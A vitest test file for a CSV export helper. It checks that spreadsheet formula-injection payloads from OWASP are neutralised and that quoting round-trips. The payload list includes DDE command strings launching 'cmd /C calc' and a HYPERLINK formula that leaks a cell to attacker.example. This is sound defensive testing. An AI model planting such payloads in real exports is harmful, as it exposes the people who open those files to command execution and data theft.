import { describe, expect, it } from 'vitest';
import { csvCell, csvRecords, parseCsv } from './csv.js';

describe('one CSV cell for every export', () => {
  // OWASP, "CSV Injection" (owasp.org/www-community/attacks/CSV_Injection): the payloads it lists
  // and the characters it names (= + - @ tab carriage return), each of which must come out as text.
  const owaspPayloads = [
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(1+1)',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Error: click for details")',
    '=DDE("cmd";"/C calc";"!A0")A0',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '\uFF1D1+1',
    '-',
    '--1',
    '-1-',
  ];

  it.each(owaspPayloads)('defuses %j: the cell starts with a quote mark, inside RFC 4180 quotes when needed', (payload) => {
    const cell = csvCell(payload);
    const unquoted = cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell;
    expect(unquoted).toBe(`'${payload}`);
  });

  it('leaves plain numbers, negative ones included, as numbers', () => {
    for (const n of ['-12', '3.5', '-0.25', '.5', '1e-3', '-2E+4', '0']) expect(csvCell(n)).toBe(n);
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell(0.125)).toBe('0.125');
    expect(csvCell(Number.NaN)).toBe('');
  });

  it('quotes commas, quotes and line breaks, and writes nothing for null', () => {
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"\nbye')).toBe('"say ""hi""\nbye"');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell({ reason: 'x' })).toBe('"{""reason"":""x""}"');
    expect(csvCell('a=b')).toBe('a=b');
  });
});

describe('reading a CSV back', () => {
  it('undoes the quoting of every cell, commas, quotes and line breaks included', () => {
    const cells = ['Bed 12, "window"', 'two\r\nlines', '', '-12', '=1+1'];
    const text = `a,b,c,d,e\r\n${cells.map(csvCell).join(',')}\r\n`;
    expect(csvRecords(text)).toEqual([{ a: 'Bed 12, "window"', b: 'two\r\nlines', c: '', d: '-12', e: "'=1+1" }]);
    expect(parseCsv('x,y\r\n1,2')).toEqual([['x', 'y'], ['1', '2']]);
  });
});
